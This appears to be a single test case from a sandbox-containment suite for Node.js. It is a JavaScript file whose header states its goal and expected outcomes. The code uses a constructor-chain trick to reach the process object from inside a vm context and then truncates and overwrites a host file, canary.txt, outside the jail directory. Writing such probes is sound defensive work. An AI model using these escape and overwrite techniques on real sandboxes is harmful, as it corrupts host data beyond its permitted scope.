/*---
id: fs-overwrite-canary
title: Overwrite canary.txt in place
category: fs
goal: Change the host's own file (canary.txt) — tampering with data outside the jail is an fs-write breach even when nothing new is created.
technique: Open canary.txt for writing via the run-directory path (r+ keeps the inode, then a truncating write), the way a guest would corrupt a config file it can reach.
references: https://nodejs.org/api/fs.html#fsopensyncpath-flags-mode, https://nodejs.org/api/permissions.html#file-system-permissions
expect: * = contained; host = escaped; host+vm = escaped; worker = escaped; worker+vm = escaped; process = escaped; process+vm = escaped
expect-hardened: * = contained; host = escaped; host+vm = escaped; worker = escaped; worker+vm = escaped
---*/
const P =
  typeof process !== 'undefined'
    ? process
    : (() => {
        try {
          return this.constructor.constructor('return process')();
        } catch {
          return undefined;
        }
      })();
let result = 'no process object';
if (P) {
  const fs = P.getBuiltinModule('node:fs');
  const runDir = P.cwd().endsWith('/jail') ? P.cwd().slice(0, -'/jail'.length) : P.cwd();
  try {
    const fd = fs.openSync(`${runDir}/canary.txt`, 'r+');
    try {
      fs.ftruncateSync(fd, 0);
      fs.writeSync(fd, 'overwritten by the guest\n', 0);
    } finally {
      fs.closeSync(fd);
    }
    result = 'canary.txt overwritten';
  } catch (e) {
    result = `${e.code || e.name}: ${e.message}`.slice(0, 160);
  }
}
console.log(result);
result;
